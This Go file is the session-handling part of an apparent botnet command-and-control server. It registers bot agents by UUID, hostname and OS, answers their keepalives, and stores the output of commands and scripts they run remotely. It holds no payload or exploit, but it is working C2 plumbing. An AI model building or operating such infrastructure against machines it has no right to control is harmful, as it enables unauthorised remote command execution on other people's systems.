package server

import (
	"context"
	"errors"
	"net"
	"time"

	"go.uber.org/zap"

	"github.com/rpcyber/botnet-commander/internal/protocol"
	"github.com/rpcyber/botnet-commander/internal/registry"
	"github.com/rpcyber/botnet-commander/internal/store"
)

func storeAgent(id registry.Identity) store.BotAgent {
	return store.BotAgent{ID: id.ID, Hostname: id.Hostname, Address: id.Addr, OS: id.OS}
}

// ackTimeout bounds the small acknowledgement writes a session makes itself.
// Dispatch writes carry their own, longer deadline.
const ackTimeout = 10 * time.Second

type sessionState int

const (
	stateAwaitHello sessionState = iota
	stateIdentified
	stateClosed
)

// session is one agent connection. It starts unidentified; the first frame
// must be a botHostInfo, after which the session is attached to the registry
// and serves keepalives and command replies until the peer goes away.
type session struct {
	srv    *Server
	framer *protocol.Framer
	log    *zap.Logger

	state   sessionState
	agentID string
}

func newSession(s *Server, conn net.Conn) *session {
	return &session{
		srv:    s,
		framer: protocol.NewFramer(conn, s.cfg.BufferSize),
		log:    s.log.With(zap.String("remote", conn.RemoteAddr().String())),
	}
}

// run is the session loop. Every read is bounded by the offline timeout: an
// agent that stays silent longer is presumed gone.
func (s *session) run() {
	defer s.close()
	s.log.Debug("session opened")

	for s.state != stateClosed {
		frames, err := s.framer.ReadFrames(s.srv.cfg.OfflineTimeout)
		if err != nil {
			switch {
			case errors.Is(err, protocol.ErrTimeout):
				s.log.Info("agent silent past offline timeout, dropping session",
					zap.String("agent_id", s.agentID))
			case errors.Is(err, protocol.ErrEOF):
				s.log.Info("agent disconnected", zap.String("agent_id", s.agentID))
			case errors.Is(err, net.ErrClosed):
				// Connection torn down on our side, normally during shutdown.
				s.log.Info("session connection closed", zap.String("agent_id", s.agentID))
			default:
				s.log.Warn("session read failed", zap.String("agent_id", s.agentID), zap.Error(err))
			}
			return
		}

		for _, frame := range frames {
			msg, err := protocol.Decode(frame)
			if err != nil {
				s.log.Warn("undecodable frame, dropping session", zap.Error(err))
				return
			}
			s.srv.metrics.FramesRead.WithLabelValues(msg.Kind()).Inc()
			if !s.handle(msg) {
				return
			}
		}
	}
}

// handle dispatches one message against the session state. Returns false when
// the session must end.
func (s *session) handle(msg protocol.Message) bool {
	switch s.state {
	case stateAwaitHello:
		info, ok := msg.(protocol.BotHostInfo)
		if !ok {
			s.log.Warn("peer sent frames before identifying, dropping session",
				zap.String("kind", msg.Kind()))
			return false
		}
		return s.identify(info)

	case stateIdentified:
		switch m := msg.(type) {
		case protocol.BotHello:
			if err := s.framer.WriteFrame(protocol.NewBotHelloReply(), ackTimeout); err != nil {
				s.log.Warn("keepalive ack failed", zap.String("agent_id", s.agentID), zap.Error(err))
				return false
			}
			return true
		case protocol.ExeCommandReply:
			s.srv.store.EnqueueResponse(m.CmdID, m.Result, m.ExitCode.String())
			return true
		case protocol.ExeScriptReply:
			s.srv.store.EnqueueResponse(m.CmdID, m.Result, m.ExitCode.String())
			return true
		case protocol.BotHostInfo:
			// Re-registration on a live session refreshes coordinates, but
			// only for the uuid the session identified as. A different uuid
			// would leave the first id's registry entry live forever.
			if m.UUID != s.agentID {
				s.log.Warn("identified session re-registered with a different uuid, dropping session",
					zap.String("agent_id", s.agentID), zap.String("uuid", m.UUID))
				return false
			}
			return s.identify(m)
		default:
			s.log.Warn("unexpected message from identified agent, dropping session",
				zap.String("agent_id", s.agentID), zap.String("kind", msg.Kind()))
			return false
		}
	}
	return false
}

// identify attaches the session to the registry, persists the inventory
// change, and acks. The ack is sent only after the agent is reachable through
// the registry, so a dispatch racing the handshake either misses the agent or
// reaches a fully wired session.
func (s *session) identify(info protocol.BotHostInfo) bool {
	if info.UUID == "" {
		s.log.Warn("registration without uuid, dropping session")
		return false
	}

	id := registry.Identity{
		ID:       info.UUID,
		Hostname: info.Hostname,
		OS:       info.OS,
		Addr:     s.framer.RemoteAddr(),
	}
	outcome, changed := s.srv.registry.Attach(id, s.framer)

	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	switch {
	case outcome == registry.AgentNew:
		if err := s.srv.store.AddAgent(ctx, storeAgent(id)); err != nil {
			s.log.Error("persisting new agent failed", zap.String("agent_id", id.ID), zap.Error(err))
		}
		s.log.Info("new agent registered",
			zap.String("agent_id", id.ID),
			zap.String("hostname", id.Hostname),
			zap.String("os", id.OS))
	case changed:
		if err := s.srv.store.RefreshAgent(ctx, id.ID, id.Hostname, id.Addr); err != nil {
			s.log.Error("refreshing agent failed", zap.String("agent_id", id.ID), zap.Error(err))
		}
		s.log.Info("agent reconnected with new coordinates",
			zap.String("agent_id", id.ID),
			zap.String("hostname", id.Hostname))
	default:
		s.log.Info("agent reconnected", zap.String("agent_id", id.ID))
	}

	if err := s.framer.WriteFrame(protocol.NewBotHostInfoReply(), ackTimeout); err != nil {
		s.log.Warn("registration ack failed", zap.String("agent_id", id.ID), zap.Error(err))
		s.agentID = id.ID
		return false
	}

	s.agentID = id.ID
	s.state = stateIdentified
	return true
}

func (s *session) close() {
	s.state = stateClosed
	if s.agentID != "" {
		s.srv.registry.Detach(s.agentID, s.framer)
	}
	s.framer.Close()
	s.log.Debug("session closed", zap.String("agent_id", s.agentID))
}
